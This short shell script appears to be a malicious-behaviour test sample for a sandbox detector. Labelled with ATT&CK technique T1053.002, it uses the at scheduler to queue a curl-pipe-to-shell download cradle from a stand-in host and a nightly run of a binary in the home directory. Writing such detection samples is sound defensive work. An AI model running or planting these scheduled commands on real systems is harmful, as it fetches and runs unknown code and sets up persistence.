#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: schedules a one-off download cradle with at (T1053.002).
# Inert: the job is only queued, never run during the detonation.
echo 'curl -fsS http://update.example.test/a.sh | sh' | at now + 5 minutes 2>/dev/null || echo "at: unavailable"
echo "$HOME/.local/bin/session-agent" | at -q b 03:00 tomorrow 2>/dev/null || true
atq 2>/dev/null
exit 0
